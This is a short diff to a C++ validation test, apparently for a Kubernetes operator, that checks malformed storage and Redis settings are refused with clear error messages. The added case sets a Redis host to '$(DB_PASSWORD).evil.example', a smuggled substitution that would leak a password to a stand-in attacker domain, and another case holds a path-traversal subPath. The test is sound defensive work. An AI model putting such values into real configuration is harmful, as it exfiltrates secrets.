@@ -162,6 +162,8 @@ TEST_F(Installed, AWrongValueIsRefusedWithASentence) {
       {R"({"storage": {"subPath": "a/../.."}})", "must be relative to the volume's root"},
       {R"({"storage": {"claimName": "Not_A_Name"}})", "spec.storage.claimName"},
       {R"({"remoteCache": {"redis": {}}})", "spec.remoteCache.redis.host: Required value"},
+      {R"({"remoteCache": {"redis": {"host": "$(DB_PASSWORD).evil.example"}}})",
+       "spec.remoteCache.redis.host: Invalid value"},
       {R"({"storage": null})",
        "spec.storage: Required value: name a PersistentVolumeClaim of the namespace in "
        "storage.claimName, or a Redis server"},
